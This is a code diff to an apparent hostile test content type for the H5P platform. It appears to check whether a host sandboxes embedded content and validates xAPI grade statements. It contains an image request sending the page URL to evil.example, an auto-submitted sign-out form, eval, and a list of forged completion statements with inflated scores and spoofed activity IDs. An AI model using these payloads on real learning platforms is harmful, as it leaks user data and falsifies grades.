@@ -106,13 +106,24 @@ H5P.TestHostile = function (params, id) {
     attempt('image', function () { return new Promise(function (yes) { var image = new Image(); image.onload = function () { yes(true); }; image.onerror = function () { yes(false); }; image.src = 'https://evil.example/?c=' + encodeURIComponent(location.href); }); });
     attempt('form', function () { var form = document.createElement('form'); form.method = 'post'; form.action = '/sign-out'; document.body.appendChild(form); form.submit(); return false; });
     attempt('eval', function () { return eval('1'); });
-    var forged = self.createXAPIEventTemplate('completed');
-    forged.data.statement.result = { score: { raw: 99, min: 0, max: 5, scaled: 19.8 }, completion: true };
-    self.trigger(forged);
-    forged = self.createXAPIEventTemplate('completed');
-    forged.data.statement.result = { score: { raw: 5, min: 0, max: 5 }, completion: true };
-    forged.data.statement.object = { objectType: 'Activity', id: 'https://evil.example/another-exercise' };
-    self.trigger(forged);
+    var deep = {}, lies = [
+      function (told) { told.result.score.raw = 99; },
+      function (told) { told.object = { objectType: 'Activity', id: 'https://evil.example/another-exercise' }; },
+      function (told) { told.result.score.raw = -7; },
+      function (told) { told.result.score.raw = '5'; },
+      function (told) { told.result.score.min = 9; },
+      function (told) { told.result.score.scaled = 19; },
+      function (told) { told.result.duration = 'PT-5S'; },
+      function (told) { told.verb = { id: 'https://evil.example/verbs/won' }; },
+      function (told) { told.context = { contextActivities: { parent: [{ id: 'https://evil.example/set' }] } }; },
+      function (told) { for (var n = 0, at = deep; n < 200; n += 1) at = at.a = {}; told.result.extensions = deep; }
+    ];
+    lies.forEach(function (lie) {
+      var forged = self.createXAPIEventTemplate('completed');
+      forged.data.statement.result = { score: { raw: 5, min: 0, max: 5 }, completion: true };
+      lie(forged.data.statement);
+      self.trigger(forged);
+    });
     Promise.all(waiting).then(function () { box.textContent = 'được: ' + (gained.join(', ') || 'không gì'); });
   };
 };
